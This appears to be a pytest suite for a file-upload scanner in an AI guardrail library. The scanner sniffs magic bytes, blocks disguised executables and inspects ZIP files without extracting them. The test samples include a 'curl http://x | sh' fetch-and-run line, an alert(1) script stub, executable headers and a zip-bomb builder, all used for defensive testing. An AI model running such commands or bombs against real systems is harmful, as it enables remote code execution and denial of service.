"""FileTypes scanner: extension rules, magic-byte sniffing, ZIP inspection without extraction."""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import tracemalloc
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airisk.errors import PolicyError
from airisk.pipeline import ScannerPipeline
from airisk.scanners.file_types import FileTypes, sniff
from airisk.types import FileAttachment, ScanContext, Verdict


def zip_bytes(entries: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), entries[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            if name != stored_first:
                archive.writestr(name, data)
    return buffer.getvalue()


def pe_bytes() -> bytes:
    header = bytearray(b"MZ" + b"\x90" * 0x3A + struct.pack("<I", 0x80) + b"\x00" * 0x40)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
SAMPLES: dict[str, bytes] = {
    "pdf": b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer\n%%EOF\n",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20,
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20,
    "gif": b"GIF89a\x01\x00\x01\x00" + b"\x00" * 10,
    "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 20,
    "bmp": b"BM"
    + struct.pack("<I", 70)
    + b"\x00\x00\x00\x00"
    + struct.pack("<I", 54)
    + struct.pack("<I", 40)
    + b"\x00" * 48,
    "tiff": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 20,
    "zip": zip_bytes({"notes.txt": b"hello"}),
    "docx": zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>"}),
    "xlsx": zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}),
    "pptx": zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p/>"}),
    "odf": zip_bytes(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"}, stored_first="mimetype"
    ),
    "jar": zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "App.class": b"\xca\xfe\xba\xbe"}),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "gzip": gzip.compress(b"some text"),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24,
    "pe": pe_bytes(),
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    "script": b"#!/bin/sh\ncurl http://x | sh\n",
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "svg": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
    "xml": b'<?xml version="1.0"?><order><id>1</id></order>',
    "json": json.dumps({"a": [1, 2, {"b": "é"}]}).encode(),
    "text": "name,city\nAnn,Zürich\n".encode(),
}


@pytest.mark.parametrize("kind", sorted(SAMPLES))
def test_sniffer_recognises_each_type(kind: str) -> None:
    assert sniff(SAMPLES[kind])[0] == kind


def scan(scanner: FileTypes, *files: tuple[str, bytes], text: str = "") -> list[tuple[str, str]]:
    ctx = ScanContext(files=[FileAttachment(name=name, content=content) for name, content in files])
    result = scanner.scan(text, ctx)
    return [(f.kind, f.detail.get("file", "")) for f in result.findings]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("report.pdf", "pdf"),
        ("photo.JPG", "jpeg"),
        ("photo.jpeg", "jpeg"),
        ("scan.tif", "tiff"),
        ("letter.docx", "docx"),
        ("sheet.xlsx", "xlsx"),
        ("deck.pptx", "pptx"),
        ("letter.odt", "odf"),
        ("old.doc", "ole"),
        ("bundle.zip", "zip"),
        ("word-as-zip.zip", "docx"),
        ("data.json", "json"),
        ("table.csv", "text"),
        ("notes.md", "text"),
        ("page.html", "html"),
        ("logo.svg", "svg"),
        ("feed.xml", "xml"),
        ("logs.tgz", "gzip"),
    ],
)
def test_consistent_files_pass(name: str, kind: str) -> None:
    assert scan(FileTypes(), (name, SAMPLES[kind])) == []


@pytest.mark.parametrize(
    ("name", "kind", "expected"),
    [
        ("report.pdf", "pe", "executable_file"),
        ("cat.png", "elf", "executable_file"),
        ("notes.txt", "script", "executable_file"),
        ("invoice.pdf.exe", "pdf", "executable_file"),
        ("setup.msi", "ole", "executable_file"),
        ("library.docx", "jar", "executable_file"),
        ("report.pdf", "png", "file_type_mismatch"),
        ("letter.docx", "zip", "file_type_mismatch"),
        ("letter.docx", "xlsx", "file_type_mismatch"),
        ("image.png", "html", "file_type_mismatch"),
        ("image.png", "svg", "file_type_mismatch"),
        ("notes.txt", "gzip", "file_type_mismatch"),
    ],
)
def test_disguised_files_are_refused(name: str, kind: str, expected: str) -> None:
    assert scan(FileTypes(), (name, SAMPLES[kind])) == [(expected, name)]


def test_json_that_does_not_parse_is_a_mismatch() -> None:
    assert scan(FileTypes(), ("data.json", b'{"a": 1,')) == [("file_type_mismatch", "data.json")]
    assert scan(FileTypes(), ("data.json", b"42")) == []


def test_finding_detail_says_declared_detected_and_why() -> None:
    result = FileTypes().scan("", ScanContext(files=[FileAttachment(name="cv.pdf", content=SAMPLES["pe"])]))
    (finding,) = result.findings
    assert (finding.start, finding.end) == (0, 0)
    assert finding.detail["file"] == "cv.pdf"
    assert finding.detail["declared"] == "pdf"
    assert finding.detail["detected"] == "pe"
    assert "executable" in finding.detail["reason"]
    assert result.verdict is Verdict.BLOCK and result.score == 1.0


def test_allow_and_deny_lists_accept_dots_and_case() -> None:
    scanner = FileTypes(allow=[".PDF", "png"], deny=["Png"])
    assert scanner.config.allow == ["pdf", "png"]
    assert scan(scanner, ("a.pdf", SAMPLES["pdf"])) == []
    assert scan(scanner, ("a.png", SAMPLES["png"])) == [("file_type_denied", "a.png")]
    assert scan(scanner, ("a.docx", SAMPLES["docx"])) == [("file_type_not_allowed", "a.docx")]


def test_deny_matches_detected_type_under_another_name() -> None:
    assert scan(FileTypes(deny=["zip"]), ("archive.dat", SAMPLES["zip"])) == [("file_type_denied", "archive.dat")]
    assert scan(FileTypes(deny=["exe"]), ("tool.dat", SAMPLES["pe"])) == [("file_type_denied", "tool.dat")]


def test_allowing_the_declared_extension_does_not_allow_executable_content() -> None:
    assert scan(FileTypes(allow=["pdf"]), ("cv.pdf", SAMPLES["pe"])) == [("executable_file", "cv.pdf")]
    assert scan(FileTypes(allow=["txt"]), ("run.txt", SAMPLES["script"])) == [("executable_file", "run.txt")]
    assert scan(FileTypes(allow=["elf"]), ("tool.exe", SAMPLES["elf"])) == [("executable_file", "tool.exe")]


def test_executables_pass_only_when_explicitly_allowed() -> None:
    assert scan(FileTypes(allow=["exe"]), ("setup.exe", SAMPLES["pe"])) == []
    assert scan(FileTypes(allow=["sh", "txt"]), ("run.sh", SAMPLES["script"])) == []
    assert scan(FileTypes(allow=["exe", "pdf"]), ("cv.pdf", SAMPLES["pe"])) == [("file_type_mismatch", "cv.pdf")]


def test_size_and_count_limits() -> None:
    scanner = FileTypes(max_size_bytes=10, max_files=1)
    findings = scan(scanner, ("a.txt", b"0123456789A"), ("b.txt", b"ok"))
    assert findings == [("too_many_files", ""), ("file_too_large", "a.txt")]
    declared_only = FileAttachment(name="big.pdf", size=10_000)
    result = FileTypes(max_size_bytes=100).scan("", ScanContext(files=[declared_only]))
    assert [f.kind for f in result.findings] == ["file_too_large"]


def test_unknown_content_follows_the_unknown_policy() -> None:
    blob = random.Random(1).randbytes(4096)
    assert scan(FileTypes(), ("blob.dat", blob)) == [("file_type_unknown", "blob.dat")]
    flagged = FileTypes(unknown="flag").scan(
        "",
        ScanContext(
            files=[FileAttachment(name="blob.dat", content=blob), FileAttachment(name="a.pdf", content=SAMPLES["pdf"])]
        ),
    )
    assert flagged.verdict is Verdict.FLAG and [f.kind for f in flagged.findings] == ["file_type_unknown"]
    assert scan(FileTypes(unknown="pass"), ("blob.dat", blob)) == []
    assert scan(FileTypes(allow=["dat"]), ("blob.dat", blob)) == []
    # a known extension with unidentifiable content is a mismatch, not merely unknown
    assert scan(FileTypes(unknown="pass"), ("blob.pdf", blob)) == [("file_type_mismatch", "blob.pdf")]


def test_missing_content_cannot_be_checked() -> None:
    result = FileTypes().scan("", ScanContext(files=[FileAttachment(name="a.pdf", size=300)]))
    assert [f.kind for f in result.findings] == ["file_type_unknown"]
    assert FileTypes(sniff=False).scan("", ScanContext(files=[FileAttachment(name="a.pdf", size=300)])).findings == []


def test_without_sniffing_only_names_count() -> None:
    assert scan(FileTypes(sniff=False), ("report.pdf", SAMPLES["png"])) == []
    assert scan(FileTypes(sniff=False), ("tool.exe", b"anything")) == [("executable_file", "tool.exe")]


def test_empty_files_and_names_without_extension() -> None:
    assert scan(FileTypes(), ("empty.pdf", b"")) == []
    assert scan(FileTypes(), ("README", b"plain words")) == []
    assert scan(FileTypes(allow=["txt"]), ("README", b"plain words")) == [("file_type_not_allowed", "README")]


def test_zip_bomb_is_listed_not_extracted() -> None:
    bomb = zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"\x00" * 30_000_000})
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        findings = scan(FileTypes(), ("letter.docx", bomb))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert findings == []
    assert peak < 5_000_000


def test_zip_with_too_many_entries_is_not_parsed() -> None:
    data = bytearray(SAMPLES["docx"])
    eocd = data.rfind(b"PK\x05\x06")
    data[eocd + 8 : eocd + 12] = struct.pack("<HH", 50_000, 50_000)
    kind, note = sniff(bytes(data))
    assert kind == "zip" and note is not None
    assert scan(FileTypes(), ("letter.docx", bytes(data))) == [("file_type_mismatch", "letter.docx")]


def test_corrupt_zip_is_reported_as_unreadable_zip() -> None:
    eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 5, 5, 1000, 999_999, 0)
    kind, note = sniff(b"PK\x03\x04" + b"\x00" * 100 + eocd)
    assert kind == "zip" and note == "unreadable archive"


def test_utf16_text_and_bom() -> None:
    assert sniff("hello, wörld".encode("utf-16"))[0] == "text"
    assert sniff(b'\xef\xbb\xbf{"a": 1}')[0] == "json"
    assert sniff(b"MZ is the start of this sentence")[0] == "text"


def test_flag_action_and_redact_refused() -> None:
    result = FileTypes(action="flag").scan("", ScanContext(files=[FileAttachment(name="a.exe", content=SAMPLES["pe"])]))
    assert result.verdict is Verdict.FLAG
    with pytest.raises(PolicyError):
        FileTypes(action="redact")


def test_text_is_ignored_and_no_files_pass() -> None:
    result = FileTypes().scan("some message with a.exe in it", ScanContext())
    assert result.verdict is Verdict.PASS and result.findings == [] and result.sanitized_text is None


def test_inside_a_pipeline_with_empty_text() -> None:
    pipeline = ScannerPipeline(input=[FileTypes(allow=["pdf", "docx", "png"])])
    bad = pipeline.scan_input("", files=[FileAttachment(name="cv.pdf", content=SAMPLES["pe"])])
    assert bad.blocked
    assert bad.findings[0].kind == "executable_file"
    assert bad.findings[0].detail["detected"] == "pe"
    good = pipeline.scan_input("see attached", files=[FileAttachment(name="cv.pdf", content=SAMPLES["pdf"])])
    assert good.verdict is Verdict.PASS and good.sanitized_text == "see attached"


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=600),
    st.sampled_from(["a.pdf", "b.docx", "c.txt", "d.json", "e", "f.dat", "g.PNG", "h.zip", "i.exe"]),
    st.text(max_size=30),
)
def test_property_arbitrary_bytes_never_crash_and_spans_fit(content: bytes, name: str, text: str) -> None:
    result = FileTypes(unknown="flag").scan(text, ScanContext(files=[FileAttachment(name=name, content=content)]))
    assert all(0 <= f.start <= f.end <= len(text) for f in result.findings)
    assert result.sanitized_text is None
    assert (result.verdict is Verdict.PASS) == (not result.findings)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(["pe", "elf", "macho", "script", "jar"]), st.sampled_from(["a.pdf", "b.txt", "c", "d.png"]))
def test_property_executables_are_always_refused_by_default(kind: str, name: str) -> None:
    result = FileTypes().scan("", ScanContext(files=[FileAttachment(name=name, content=SAMPLES[kind])]))
    assert result.verdict is Verdict.BLOCK


def test_conversation_add_file_goes_through_the_scanner() -> None:
    from airisk.agent import Agent
    from airisk.errors import GuardrailBlocked
    from airisk.providers.echo import Echo

    pipeline = ScannerPipeline(input=[FileTypes(allow=["pdf", "png"])])
    conversation = Agent("helpdesk", Echo(), pipeline=pipeline).conversation(user="ann")
    assert conversation.add_file(FileAttachment(name="cv.pdf", content=SAMPLES["pdf"])).verdict is Verdict.PASS
    with pytest.raises(GuardrailBlocked) as info:
        conversation.add_file(FileAttachment(name="cv2.pdf", content=SAMPLES["pe"]))
    assert info.value.report.findings[0].kind == "executable_file"
    assert [f.name for f in conversation.files] == ["cv.pdf"]
